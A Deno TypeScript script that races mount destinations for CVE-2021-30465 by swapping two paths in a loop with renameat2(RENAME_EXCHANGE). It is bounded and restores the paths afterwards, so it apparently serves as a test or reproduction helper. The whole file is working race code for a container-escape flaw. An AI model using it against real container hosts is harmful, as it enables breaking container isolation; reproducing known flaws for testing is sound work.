/**
 * A host-side attacker for the mount-destination race (CVE-2021-30465):
 * swaps two paths with renameat2(RENAME_EXCHANGE) in a tight loop, so one
 * name is a directory one moment and a symlink the next. Prints "ready"
 * after the first swap; stops after `maxSwaps` swaps or `maxMs`
 * milliseconds, whichever comes first, leaving the paths as it found them.
 *
 *   deno run -A mount_racer.ts PATH_A PATH_B MAX_SWAPS MAX_MS
 */
const RENAME_EXCHANGE = 2;
const AT_FDCWD = -100;

const [a, b, maxSwaps, maxMs] = Deno.args;
const libc = Deno.dlopen("libc.so.6", {
  renameat2: { parameters: ["i32", "buffer", "i32", "buffer", "u32"], result: "i32" },
});
const cstr = (s: string) => new TextEncoder().encode(s + "\0");
const pa = cstr(a), pb = cstr(b);
const swap = () => {
  if (libc.symbols.renameat2(AT_FDCWD, pa, AT_FDCWD, pb, RENAME_EXCHANGE) !== 0) throw new Error("renameat2 failed");
};

const end = Date.now() + Number(maxMs);
const limit = Number(maxSwaps);
let swaps = 0;
swap();
swaps++;
Deno.stdout.writeSync(new TextEncoder().encode("ready\n"));
while (swaps < limit && (swaps % 1024 !== 0 || Date.now() < end)) {
  swap();
  swaps++;
}
// An even number of swaps puts both names back.
if (swaps % 2 === 1) swap();
